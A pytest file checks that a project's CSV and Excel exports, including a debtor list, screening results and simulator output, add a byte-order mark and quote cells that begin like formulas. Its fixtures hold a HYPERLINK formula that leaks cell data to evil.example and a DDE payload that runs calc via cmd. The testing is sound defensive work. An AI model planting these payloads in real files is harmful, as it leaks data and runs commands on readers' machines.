"""Every CSV the project writes for people starts with a UTF-8 byte-order mark and neutralises
formula injection (issue 13 item 3, issue 14): a name or document number beginning with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a single quote in front in the
file, while the stored value stays as it was; numbers are written as numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path
from types import SimpleNamespace
from typing import cast

import openpyxl
import pytest
from sqlalchemy import Engine, select

from socialcredit.core.access import Principal
from socialcredit.core.pack.model import Rulebook
from socialcredit.core.screening.match import Counterparty
from socialcredit.io.csv_out import BOM, csv_bytes, neutralise
from socialcredit.services.context import Context
from socialcredit.services.exports.files import export_list, export_records
from socialcredit.services.labelling.run import label
from socialcredit.services.lists.query import EntryQuery
from socialcredit.services.records.ingest import ingest_file
from socialcredit.services.screening.files import csv_bytes as screening_csv
from socialcredit.services.screening.files import xlsx_bytes
from socialcredit.services.screening.screen import screen
from socialcredit.sim.output import write_timeseries
from socialcredit.sim.run import VariantResult
from socialcredit.store import tables as t
from tests.conftest import RIC
from tests.test_ingest import HEADER, case, write

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
DOC = "+cmd|' /C calc'!A0"
PUBLIC = Principal(key_id="p", role="public", name="public")
AUDITOR = Principal(key_id="a", role="auditor", name="auditor")


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1", "'+1"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("张三", "张三"),
        ("a=b", "a=b"),
        (-5, -5),
        (-2.5, -2.5),
        (None, None),
    ],
)
def test_text_that_a_spreadsheet_would_run_is_quoted_and_numbers_are_not(
    value: object, shown: object
) -> None:
    assert neutralise(value) == shown


def test_a_file_for_people_starts_with_the_mark_and_keeps_numbers() -> None:
    data = csv_bytes(["name", "amount"], [[FORMULA, -5], ["张三", "-5"]])
    assert data.startswith(BOM.encode("utf-8"))
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows == [["name", "amount"], ["'" + FORMULA, "-5"], ["张三", "'-5"]]


@pytest.fixture
def hostile(tmp_path: Path, store: Engine, book: Rulebook) -> Context:
    """A person named like a formula, on the dishonest debtor list by a case whose document
    number is a formula too, labelled as of 2019-06-01."""
    row = case(doc=DOC.replace(",", "")).replace(
        ",张三,", f',"{FORMULA.replace(chr(34), 2 * chr(34))}",'
    )
    report = ingest_file(store, book, write(tmp_path, "court.csv", HEADER, row), "court")
    assert report.count("accepted") == 1, report
    label(store, book, dt.date(2019, 6, 1))
    return Context(store, book)


def _table(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(BOM.encode("utf-8")), data[:20]
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def test_the_public_list_export_neutralises_a_formula_name(hostile: Context) -> None:
    query = EntryQuery("dishonest-judgment-debtors", None, True, "run")
    rows = _table(export_list(hostile, PUBLIC, query, "csv").file.content)
    assert [r["name"] for r in rows] == ["'" + FORMULA]
    with hostile.engine.connect() as db:  # the stored value stays as it was
        assert db.execute(select(t.subjects.c.name)).scalar_one() == FORMULA


def test_the_records_export_neutralises_a_formula_document_number(hostile: Context) -> None:
    rows = _table(export_records(hostile, AUDITOR, "csv", as_of=dt.date(2019, 6, 1)).file.content)
    assert [r["doc_no"] for r in rows] == ["'" + DOC.replace(",", "")]
    with hostile.engine.connect() as db:
        assert db.execute(select(t.records.c.doc_no)).scalar_one() == DOC.replace(",", "")


def test_screening_results_neutralise_in_csv_and_stay_text_in_a_workbook(
    hostile: Context,
) -> None:
    parties = [Counterparty(1, FORMULA, RIC, None, "-supplier")]
    report = screen(hostile.engine, hostile.book, AUDITOR, parties, as_of=dt.date(2019, 6, 1))
    rows = _table(screening_csv(report))
    assert rows[0]["name"] == "'" + FORMULA and rows[0]["role"] == "'-supplier"
    assert rows[0]["subject_name"] == "'" + FORMULA  # the match, as stored
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(report))).active
    assert sheet is not None
    cell = sheet.cell(row=2, column=2)
    assert cell.value == FORMULA and cell.data_type == "s"  # text, never a formula


def test_the_simulators_timeseries_is_a_file_for_people(tmp_path: Path) -> None:
    """The writer of ``simulate``'s timeseries.csv, given one variant's rows (the variant's
    name comes from the user's configuration)."""
    result = SimpleNamespace(
        variant=SimpleNamespace(name="=1+1"),
        columns=["day", "change"],
        rows=[{"day": 1, "change": -3}],
    )
    write_timeseries(tmp_path / "t.csv", [cast(VariantResult, result)])
    written = _table((tmp_path / "t.csv").read_bytes())
    assert written == [{"variant": "'=1+1", "day": "1", "change": "-3"}]
